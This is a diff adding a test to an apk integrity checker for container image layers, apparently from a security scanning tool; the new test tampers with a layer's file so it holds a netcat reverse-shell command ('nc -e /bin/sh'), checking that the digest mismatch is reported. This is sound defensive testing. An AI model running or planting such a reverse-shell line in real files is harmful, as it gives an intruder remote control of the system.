@@ -164,6 +164,22 @@ describe("apk integrity", () => {
     );
   });
 
+  it("checks files of a layer that holds no apk database against the database a later layer writes", async () => {
+    // a layer is analysed alone (and cached), so the base cannot know an apk database comes later
+    const files = base.filter((e) => !e.name.startsWith("lib/apk/"));
+    const database = base.filter((e) => e.name.startsWith("lib/apk/"));
+    const clean = await contentOf([files, database]);
+    expect(integrity(clean.fact)).toEqual([]);
+    expect(clean.fact.warnings ?? []).toEqual([]);
+    const edited = await contentOf([
+      [{ name: "usr/bin/tool", content: "#!/bin/sh\nnc -e /bin/sh 127.0.0.1 4444\n" }, files[1]!],
+      database,
+    ]);
+    expect(integrity(edited.fact).map((f) => [f.rule, f.path, f.layer])).toEqual([
+      ["integrity/apk-digest", "/usr/bin/tool", edited.reports[0]!.digest],
+    ]);
+  });
+
   it("reports a database edited to claim a fixed version while the files stay old; a real upgrade is not", async () => {
     const edited = await contentOf([
       base,
